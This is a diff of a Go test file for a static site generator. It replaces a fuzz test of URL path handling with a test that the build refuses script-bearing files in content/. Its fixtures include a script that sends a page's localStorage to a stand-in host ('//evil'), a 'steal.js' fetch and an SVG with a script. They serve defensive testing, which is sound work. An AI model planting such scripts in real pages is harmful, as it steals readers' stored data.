@@ -4,11 +4,11 @@ import (
 	"errors"
 	"fmt"
 	"html"
+	"mutual/internal/theme"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
 	"os"
-	"path"
 	"path/filepath"
 	"regexp"
 	"runtime"
@@ -304,7 +304,7 @@ func TestFileNamesInURLs(t *testing.T) {
 // error naming both, at the source a writer can change.
 func TestOutputClashes(t *testing.T) {
 	css := "a { color: navy; }\n"
-	hashed := newAsset("css/x.css", []byte(css)).out
+	hashed := theme.NewAsset("css/x.css", []byte(css), "").Out
 	tests := []struct {
 		name  string
 		files map[string]string
@@ -368,34 +368,48 @@ func TestOutputClashes(t *testing.T) {
 	}
 }
 
-// FuzzPaths checks the two ways a writer's path becomes a URL: a path
-// escaped for a link unescapes back to itself and holds nothing a URL
-// cannot, and an accepted alias is a clean site path with no part a static
-// host hides (.git) and no "?" or "#".
-func FuzzPaths(f *testing.F) {
-	for _, s := range []string{"guides/a b/", "notes#1.txt", "100%.txt", "é/ü?.md", "/old/path/", "/.git/x", "/a/../b", "/x%2F..%2F/", "/%2e%2e/"} {
-		f.Add(s)
-	}
-	f.Fuzz(func(t *testing.T, s string) {
-		e := pathEscape(s)
-		if back, err := url.PathUnescape(e); err != nil || back != s {
-			t.Fatalf("pathEscape(%q) = %q, unescaped %q (%v)", s, e, back, err)
+// TestActiveContent builds sites with files that can run scripts in
+// content/: each is refused with its path, unless the site trusts its
+// HTML; clean SVG images pass.
+func TestActiveContent(t *testing.T) {
+	for _, trust := range []string{"", "trustHTML: true\n", "markdown: {unsafe: true}\n"} {
+		dir := minimalSite(t)
+		writeFile(t, dir, "content/site.yaml", "title: T\nbaseURL: https://example.org/\n"+trust)
+		writeFile(t, dir, "content/resources.html", "<script>fetch('//evil/?'+JSON.stringify(localStorage))</script>\n")
+		writeFile(t, dir, "content/js/steal.js", "fetch('//evil')\n")
+		writeFile(t, dir, "content/feed/data.XML", "<x/>\n")
+		writeFile(t, dir, "content/img/evil.svg", `<svg xmlns="http://www.w3.org/2000/svg">`+"\n"+`<script>x()</script></svg>`)
+		writeFile(t, dir, "content/img/clean.svg", `<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>`)
+		writeFile(t, dir, "content/guides/a.md", "---\ntitle: A\n---\n![a circle](../img/clean.svg)\n")
+		out := filepath.Join(dir, "public")
+		_, err := New(Options{Dir: dir, Out: out}).Build()
+		if trust != "" {
+			if err != nil {
+				t.Fatalf("%strusted: %v", trust, err)
+			}
+			continue
 		}
-		if strings.ContainsAny(e, " #?\"<>\\^`{|}") || strings.ContainsFunc(e, func(r rune) bool { return r > 126 || r < 33 }) {
-			t.Fatalf("pathEscape(%q) = %q holds a character a URL cannot", s, e)
+		want := []string{
+			"content/feed/data.XML: an XML file in content/ is published as it is, and a script in it could read what readers saved on this site, worksheet answers included: write the page in Markdown instead; if you trust every file of this site, set trustHTML: true in content/site.yaml",
+			"content/img/evil.svg:2:9: it has a <script> element: an SVG image may hold no script, event attribute or reference to another file, since opened on its own it would run with the site's rights; if you trust every file of this site, set trustHTML: true in content/site.yaml",
+			"content/js/steal.js: a JavaScript file in content/",
+			"content/resources.html: an HTML page in content/",
 		}
-		u, msg := aliasURL(s)
-		if msg != "" {
-			return
+		got := ""
+		if err != nil {
+			got = err.Error()
 		}
-		out := outFile(u)
-		if out != path.Clean(out) || strings.HasPrefix(out, "/") || strings.HasPrefix(out, "../") || out == ".." || strings.ContainsAny(u, "?#") {
-			t.Fatalf("alias %q gives the output path %q", s, out)
+		lines := strings.Split(got, "\n")
+		if len(lines) != len(want) {
+			t.Fatalf("errors:\n%s", got)
 		}
-		for _, seg := range strings.Split(out, "/") {
-			if strings.HasPrefix(seg, ".") {
-				t.Fatalf("alias %q gives the output path %q, with a dot part", s, out)
+		for i := range want {
+			if !strings.HasPrefix(lines[i], want[i]) {
+				t.Errorf("error %d:\n%s\nwant\n%s", i, lines[i], want[i])
 			}
 		}
-	})
+		if _, err := os.Stat(out); err == nil {
+			t.Error("a refused build wrote its output")
+		}
+	}
 }
